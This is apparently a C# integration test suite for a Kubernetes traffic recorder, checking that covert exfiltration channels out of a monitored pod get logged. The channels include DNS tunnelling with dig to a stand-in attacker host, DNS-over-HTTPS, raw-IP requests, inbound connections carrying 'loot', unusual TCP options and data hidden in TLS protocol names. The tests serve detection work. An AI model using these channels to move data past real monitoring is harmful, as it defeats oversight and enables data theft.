using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using K8sRecorder.Integration.Redirect;
using K8sRecorder.Testing.Net;

namespace K8sRecorder.Integration.Capture;

/// <summary>Ways to carry something out that a policy of <c>Record</c> lets pass: whatever arrives outside stands in the recording.</summary>
[Collection(SharedRecording.Name)]
public sealed class WayOutTests(RecordingCapture pod)
{
    [NetworkFact]
    public async Task Address_in_place_of_a_name_is_recorded()
    {
        using var client = pod.Client(World.Other, port: 80);
        await client.GetStringAsync(new Uri($"http://{World.Other}/raw-address"));

        var request = await pod.RequestAsync("/raw-address");
        Assert.Equal(("unmatched", $"{World.Other}:80"), (request.Text("target"), request.Text("destination")));
    }

    [NetworkFact]
    public async Task Dns_over_https_is_recorded()
    {
        using var client = pod.Client(World.Other, HttpVersion.Version20);
        using var question = new ByteArrayContent([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 7, .. "covert-"u8, 4, .. "test"u8, 0, 0, 16, 0, 1]);
        question.Headers.ContentType = new("application/dns-message");
        using var answer = await client.PostAsync(new Uri("https://other.test/dns-query"), question);
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);

        var request = await pod.RequestAsync("/dns-query");
        Assert.Equal(("unmatched", "1.3"), (request.Text("target"), request.Text("tls")));
        Assert.Contains("covert-", await pod.BodyAsync(request), StringComparison.Ordinal);
    }

    [NetworkTheory]
    [InlineData("udp", "+notcp")]
    [InlineData("tcp", "+tcp")]
    public async Task Tunnel_through_dns_is_recorded(string transport, string option)
    {
        var name = $"mfzwi2lpoe-{transport}.tunnel.test";
        await pod.RunAsync("dig", [$"@{World.Attacker}", "+tries=1", option, name, "TXT"]);

        var query = await pod.RecordAsync("dns.query", record => CapturePod.TextOf(record, "name").Contains(name, StringComparison.Ordinal));
        Assert.Equal((transport, "TXT"), (query.Text("transport"), query.Text("type")));
    }

    [NetworkFact]
    public async Task What_a_connection_into_the_pod_carries_out_is_recorded()
    {
        var loot = $"loot {RandomNumberGenerator.GetHexString(100_000)} end\n";
        using var listener = pod.Listen(RedirectedPod.AgentUid, "0.0.0.0", 8081);
        using var caller = pod.Pair.Outside.As(0, () => RedirectedPod.Connecting(NetworkPair.PodV4, 8081));
        using (var agent = pod.Accept(RedirectedPod.AgentUid, listener))
        {
            var sending = agent.SendAsync(Encoding.ASCII.GetBytes(loot));
            Assert.Equal(loot, await TextAsync(new NetworkStream(caller), loot.Length));
            await sending;
        }
        caller.Close();

        await pod.RecordAsync("channel.closed", record => record.Number("out") == loot.Length);
        var carried = string.Concat((await pod.RecordsAsync()).Where(record => record.Kind == "tcp.data" && record.Text("from") == "target").Select(record => CapturePod.TextOf(record, "body")));
        Assert.Contains(loot, carried, StringComparison.Ordinal);
    }

    [NetworkFact]
    public async Task Tls_into_the_pod_is_counted()
    {
        using var caller = await TlsIntoThePodAsync(pod, 8443, accepted: true);

        await pod.RecordAsync("channel.opened", record => record.Text("onlyCountedFor") == "uninterceptable" && record.Text("destination") == $"{NetworkPair.PodV4}:8443");
    }

    /// <summary>By TCP all the same: data in the first segment, several paths, the clothes of IPv6, with options of IP.</summary>
    [NetworkTheory]
    [InlineData("fast open")]
    [InlineData("multipath")]
    [InlineData("mapped")]
    [InlineData("options")]
    public async Task Odd_tcp_is_recorded(string kind)
    {
        using var listener = pod.World.Network.As(0, () => RedirectedPod.Listening(World.Lines, 7000));
        using var agent = pod.Agent.As(RedirectedPod.AgentUid, () => Odd(kind));
        if (agent is null)
            return; // this kernel has no such thing
        var line = $"1 {kind}\n";
        Assert.Equal(line.Length, agent.Send(Encoding.ASCII.GetBytes(line)));
        using (var server = RedirectedPod.Waiting(listener).Accept())
            Assert.Equal(line, await TextAsync(new NetworkStream(server), line.Length));

        await pod.RecordAsync("tcp.data", record => CapturePod.TextOf(record, "body").Contains(line, StringComparison.Ordinal));
    }

    /// <summary>A list of protocols has room for anything: only names of protocols arrive.</summary>
    [NetworkFact]
    public async Task Made_up_protocols_of_a_handshake_do_not_arrive()
    {
        using var listener = pod.World.Network.As(0, () => RedirectedPod.Listening(World.Lines, 7443));
        using var agent = pod.Connect(World.Lines, 7443);
        var tls = new SslStream(new NetworkStream(agent));
        var shaking = tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = "lines.target.test",
            ApplicationProtocols = [new("carried-out-in-a-name"), SslApplicationProtocol.Http2, new(new byte[200])],
        });
        using (var server = RedirectedPod.Waiting(listener).Accept())
        {
            var hello = new byte[16 << 10];
            var length = RedirectedPod.Waiting(server).Receive(hello);
            Assert.True(hello.AsSpan(0, length).IndexOf("\u0000\u0003\u0002h2"u8) >= 0);
            Assert.True(hello.AsSpan(0, length).IndexOf("carried-out"u8) < 0);
        }
        await Assert.ThrowsAnyAsync<Exception>(() => shaking);
        await tls.DisposeAsync();
    }

    /// <summary>Somebody outside shakes hands with the agent, which is the server; null: it was ended.</summary>
    internal static async Task<SslStream?> TlsIntoThePodAsync(CapturePod pod, int port, bool accepted)
    {
        using var certificate = pod.World.Authority.Certify("agent.test");
        using var listener = pod.Listen(RedirectedPod.AgentUid, "0.0.0.0", port);
        var caller = new SslStream(new NetworkStream(pod.Pair.Outside.As(0, () => RedirectedPod.Connecting(NetworkPair.PodV4, port)), ownsSocket: true));
        var shaking = caller.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = "agent.test",
            RemoteCertificateValidationCallback = (_, shown, _, _) => shown!.GetCertHashString() == certificate.GetCertHashString(),
        });
        using var agent = pod.Accept(RedirectedPod.AgentUid, listener);
        await using var server = new SslStream(new NetworkStream(agent));
        if (!accepted)
        {
            await Assert.ThrowsAnyAsync<IOException>(() => server.AuthenticateAsServerAsync(certificate));
            await Assert.ThrowsAnyAsync<IOException>(() => shaking);
            await caller.DisposeAsync();
            return null;
        }
        await server.AuthenticateAsServerAsync(certificate);
        await shaking;
        return caller;
    }

    private static Socket? Odd(string kind)
    {
        if (kind == "mapped")
            return RedirectedPod.Connecting($"::ffff:{World.Lines}", 7000);
        try
        {
            var socket = new Socket(new SafeSocketHandle(RawSocket.Open(RawSocket.Internet, RawSocket.Stream, kind == "multipath" ? 262 : 6), ownsHandle: true));
            if (kind == "fast open")
                socket.SetRawSocketOption(6, 30, BitConverter.GetBytes(1)); // TCP_FASTOPEN_CONNECT
            else if (kind == "options")
                socket.SetRawSocketOption(0, 4, [7, 11, 4, 0, 0, 0, 0, 0, 0, 0, 0, 1]); // record route (RFC 791)
            socket.Connect(IPAddress.Parse(World.Lines), 7000);
            return socket;
        }
        catch (SocketException absent) when (absent.SocketErrorCode != SocketError.ConnectionRefused)
        {
            return null;
        }
    }

    private static async Task<string> TextAsync(Stream stream, int length)
    {
        var text = new byte[length];
        await stream.ReadExactlyAsync(text);
        return Encoding.ASCII.GetString(text);
    }
}
